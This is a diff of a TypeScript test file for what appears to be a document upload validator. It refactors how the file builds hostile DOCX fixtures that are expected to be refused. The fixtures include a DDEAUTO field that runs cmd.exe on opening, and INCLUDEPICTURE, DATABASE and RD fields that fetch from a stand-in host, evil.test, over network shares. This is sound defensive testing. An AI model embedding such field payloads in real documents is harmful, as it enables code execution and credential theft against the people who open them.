@@ -38,6 +38,13 @@ async function partWith(name: string, tag: string, xml: string): Promise<hostile
   if (!text.includes(tag)) throw new Error(`pandoc wrote no ${tag} in ${name}`);
   return { name, data: Buffer.from(text.replace(tag, `${xml}${tag}`)) };
 }
+/** pandoc's DOCX with a paragraph holding a field of these instructions in its body. */
+const docxWithField =
+  (...instructions: string[]) =>
+  async () =>
+    hostile.docxWith(real.docx, [
+      await partWith('word/document.xml', '<w:sectPr', fieldParagraph(...instructions)),
+    ]);
 /** The settings part naming the document's template, as Word writes it. */
 const templateAt = (target: string): hostile.ZipEntry[] => [
   {
@@ -198,24 +205,12 @@ const refused: Case[] = [
   file(
     'a DOCX with a DDEAUTO field (its instructions split across runs) that runs a program on opening',
     'factura.docx',
-    docxWith(async () => [
-      await partWith(
-        'word/document.xml',
-        '<w:sectPr',
-        fieldParagraph(' DDE', String.raw`AUTO c:\windows\system32\cmd.exe "/k calc.exe" `),
-      ),
-    ]),
+    docxWithField(' DDE', String.raw`AUTO c:\windows\system32\cmd.exe "/k calc.exe" `),
   ),
   file(
     'a DOCX with an INCLUDEPICTURE field fetching from a network share (a credential leak)',
     'factura.docx',
-    docxWith(async () => [
-      await partWith(
-        'word/document.xml',
-        '<w:sectPr',
-        fieldParagraph(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `),
-      ),
-    ]),
+    docxWithField(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `),
   ),
   file(
     'a DOCX with an INCLUDETEXT field fetching a web page, in its footnotes',
@@ -299,15 +294,9 @@ const refused: Case[] = [
   file(
     'a DOCX with a DATABASE field reading a share',
     'factura.docx',
-    docxWith(async () => [
-      await partWith(
-        'word/document.xml',
-        '<w:sectPr',
-        fieldParagraph(
-          String.raw`DATABASE \d "\\\\evil.test\\datos\\clientes.mdb" \s "SELECT * FROM t" `,
-        ),
-      ),
-    ]),
+    docxWithField(
+      String.raw`DATABASE \d "\\\\evil.test\\datos\\clientes.mdb" \s "SELECT * FROM t" `,
+    ),
   ),
   file(
     'a DOCX with a task-pane add-in from a file-share catalog',
@@ -404,13 +393,7 @@ const refused: Case[] = [
   file(
     'a DOCX with an RD field reading a document from a share',
     'factura.docx',
-    docxWith(async () => [
-      await partWith(
-        'word/document.xml',
-        '<w:sectPr',
-        fieldParagraph(String.raw`RD "\\\\evil.test\\share\\anexo.docx" \f `),
-      ),
-    ]),
+    docxWithField(String.raw`RD "\\\\evil.test\\share\\anexo.docx" \f `),
     /RD field/,
   ),
   file(
@@ -437,13 +420,7 @@ const refused: Case[] = [
     file(
       `a DOCX with a HYPERLINK field to ${target}`,
       'factura.docx',
-      docxWith(async () => [
-        await partWith(
-          'word/document.xml',
-          '<w:sectPr',
-          fieldParagraph(`HYPERLINK "${target.replaceAll('&', '&amp;')}" `),
-        ),
-      ]),
+      docxWithField(`HYPERLINK "${target.replaceAll('&', '&amp;')}" `),
       /HYPERLINK/,
     ),
   ]),
